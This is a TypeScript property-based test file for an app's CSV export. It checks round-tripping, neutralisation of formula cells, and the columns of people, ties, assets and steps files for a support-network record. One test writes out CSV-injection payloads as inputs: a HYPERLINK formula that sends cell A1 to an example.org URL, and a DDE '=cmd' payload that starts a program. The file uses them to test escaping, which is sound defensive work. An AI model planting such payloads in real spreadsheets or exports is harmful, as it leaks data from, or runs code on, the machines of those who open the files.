import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvFiles } from '../../src/interchange/csv-files.js';
import { writeCsv } from '../../src/interchange/csv.js';
import { receiveRecord } from '../../src/model/door.js';
import { emptyRecord, type RecordDraft } from '../../src/model/record.js';
import { winston } from '../../stories/people/winston.js';

const everything = receiveRecord(readFileSync(new URL('../fixtures/record-1.json', import.meta.url), 'utf8'));

/** The cells of a CSV file as RFC 4180 has them, as a spreadsheet gets them: formulas not yet made harmless. */
function cellsOf(file: string): string[][] {
  expect(file.startsWith('\uFEFF')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
  cell.lastIndex = 1;
  while (cell.lastIndex < file.length) {
    const at = cell.lastIndex;
    const [, text, end] = cell.exec(file) ?? expect.fail(`no cell begins at ${at}: ${file.slice(at, at + 20)}`);
    row.push(text!.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** What was written, as a program reads it that knows what the apostrophe in front is for. */
const readBack = (text: string): string => (/^'(?:['\s]*[=+\-@＝＋－＠]|'*[\t\r\n])/.test(text) ? text.slice(1) : text);

const asObjects = (file: string): Record<string, string>[] => {
  const [columns, ...rows] = cellsOf(file);
  return rows.map((row) => Object.fromEntries(columns!.map((column, at) => [column, row[at]!])));
};

/** Texts that lean towards what is awkward in a CSV file. */
const awkward = fc.string({
  unit: fc.constantFrom(...'=+-@\t\r\n"\',; \\ab1', '＝', '＠', '\u00a0', 'ŵ', '👋', '\uFEFF', '\u2028'),
  maxLength: 12,
});
const text = fc.oneof(awkward, fc.string({ unit: 'binary' }));
const table = fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { minLength: 1 });

describe('a CSV file', () => {
  it('gives every text back, whatever is in it', () => {
    fc.assert(
      fc.property(table, (rows) => {
        expect(cellsOf(writeCsv(rows)).map((row) => row.map(readBack))).toEqual(rows);
      }),
      { numRuns: 2000 },
    );
  });

  it('has no cell that a spreadsheet would run, also with space in front', () => {
    fc.assert(
      fc.property(table, (rows) => {
        for (const cell of cellsOf(writeCsv(rows)).flat()) {
          expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
          expect(cell.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('keeps a formula that tries to leave its cell in it', () => {
    const attack = '",=HYPERLINK("https://example.org/?"&A1,"click")';
    expect(cellsOf(writeCsv([['Len', attack, 'friendship']]))).toEqual([['Len', attack, 'friendship']]);
    expect(cellsOf(writeCsv([["=cmd|' /C calc'!A0", '', '']]))).toEqual([["'=cmd|' /C calc'!A0", '', '']]);
  });

  it('leaves what people mostly write as it is', () => {
    for (const plain of ['Len', '’tis fine', "'Arry", '30 years', 'a = b', '– a dash', 'Tŷ Gwyn'])
      expect(cellsOf(writeCsv([[plain]]))).toEqual([[plain]]);
  });
});

describe('the files of a record', () => {
  it('hold everybody, with whose words they are and who is not to be contacted', () => {
    const people = asObjects(csvFiles(winston).people);
    expect(people).toHaveLength(Object.keys(winston.people).length);
    const named = (name: string) => people.find((row) => row['name'] === name)!;
    expect(named('Errol')['do not contact']).toBe('yes');
    expect(named('Marcia')['do not contact']).toBe('');
    expect(named('Nisha')).toMatchObject({ paid: 'yes', ring: 'exchange', about: 'stroke physio' });
    expect(named('Len')).toMatchObject({ 'whose words': 'Winston Reid', 'own words': 'yes' });
    expect(named('Len')['words']).toContain('seedlings');
  });

  it('hold the ties between two, by name and by id', () => {
    const ties = asObjects(csvFiles(everything).ties);
    const between = { 'one id': 'len', one: 'Len', 'other id': 'marcia', other: 'Marcia', strength: 'tenuous', flow: 'to-other' };
    expect(ties).toContainEqual(expect.objectContaining({ ...between, 'do not contact': '' }));
    expect(ties.find((row) => row['other'] === 'Errol')).toMatchObject({ strength: 'broken', 'do not contact': 'yes' });
    expect(ties.find((row) => row['other'] === 'Len')).toMatchObject({ 'one id': 'me', one: 'Winston Reid' });
  });

  it('hold sectors, who is no longer here, and the kinds of support', () => {
    const record = structuredClone(everything) as RecordDraft;
    Object.assign(record.people['len']!, { sector: 'neighbours', gone: 'moved' });
    Object.assign(record.ties['len~me']!, { support: { emotional: 'both', linking: 'to-one' }, toOther: 'seedlings' });
    const files = csvFiles(record);
    expect(asObjects(files.people).find((row) => row['id'] === 'len')).toMatchObject({ sector: 'neighbours', gone: 'moved' });
    expect(asObjects(files.ties).find((row) => row['other id'] === 'len')).toMatchObject({
      'support emotional': 'both',
      'support linking': 'to-one',
      'support social': '',
      'to one': '',
      'to other': 'seedlings',
    });
  });

  it('hold assets and steps', () => {
    const files = csvFiles(everything);
    expect(asObjects(files.assets)).toContainEqual(
      expect.objectContaining({
        kind: 'exchange',
        name: 'A lift home from dominoes',
        exchange: 'ask',
        length: 'half an hour',
      }),
    );
    const record = structuredClone(everything) as RecordDraft;
    Object.assign(Object.values(record.assets)[0]!, { when: 'Tuesdays', helps: ['bus', 'toilet'], introducer: 'len' });
    expect(asObjects(csvFiles(record).assets)).toContainEqual(
      expect.objectContaining({ when: 'Tuesdays', helps: 'bus; toilet', 'introducer id': 'len', introducer: 'Len', 'do not contact': '' }),
    );
    const [walk, hello] = asObjects(files.steps);
    expect(walk).toMatchObject({
      who: 'Winston Reid',
      what: 'Walk up to the plot gate and back',
      when: 'Most mornings',
      done: '',
    });
    expect(hello).toMatchObject({ who: 'Len', introduction: 'yes', done: '2026-03-12T10:00:00.000Z' });
  });

  it('are there for an empty record too, with their columns', () => {
    for (const file of Object.values(csvFiles(emptyRecord()))) expect(cellsOf(file)).toHaveLength(1);
  });
});
